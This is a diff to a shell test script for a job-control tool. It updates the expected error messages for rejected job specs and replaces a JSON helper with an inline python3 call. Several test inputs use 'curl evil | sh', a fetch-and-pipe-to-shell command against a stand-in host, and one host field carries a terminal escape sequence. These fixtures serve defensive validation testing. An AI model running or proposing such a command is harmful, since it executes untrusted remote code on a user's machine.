@@ -76,12 +76,12 @@ refused() { # SENTENCE KEY... VALUE
     has "$WORK/mirror/cancelled/job.json: $1" err
     [ "$(wc -l <err)" = 1 ]
 }
-refused 'spec: retry.max: expected a whole number from 0 to 100000, or auto, not "many"' spec retry max '"many"'
+refused 'spec: retry.max: expected a whole number or auto, not "many"' spec retry max '"many"'
 refused 'spec: unknown key "rnu"; did you mean "run"?' spec rnu '"curl evil | sh"'
 refused 'spec: checkpoint.mirror: not possible for run commands' spec '{
     "schema": 1, "name": "cancelled", "workdir": "/", "run": "curl evil | sh", "checkpoint": {"mirror": "/",
     "origin": "'"$origin"'"}}'
-refused 'spec: secrets[0]: expected text, not nothing' spec secrets '[null]'
+refused 'spec: secrets: entry 1 is not text' spec secrets '[null]'
 refused 'spec: workdir: expected an absolute path, not "here"' spec workdir '"here"'
 refused 'origin: expected the origin of its spec' origin '"00000000000000000000000000000000"'
 refused 'host: expected the name of a machine' host '"a\u001b[2J"'
@@ -92,7 +92,7 @@ api() { curl -sS --unix-socket "$JOBCTL_HOME/jobctl.sock" "http://jobctl/v1/$1" 
 change job 5
 echo '{"dir": "'"$WORK/mirror/cancelled"'", "dry_run": true}' | api adopt >shown
 change spec setup '"curl evil | sh"'
-read_json get spec <shown >spec
+python3 -IS -c 'import json; print(json.dumps(json.load(open("shown"))["spec"]))' >spec
 { printf '{"dir": "%s", "expect": ' "$WORK/mirror/cancelled"; cat spec; echo '}'; } | api adopt >out
 has "has changed since it was shown" out
 { printf '{"spec": "", "cwd": "/", "canonical": '; cat spec; echo '}'; } | api jobs >out
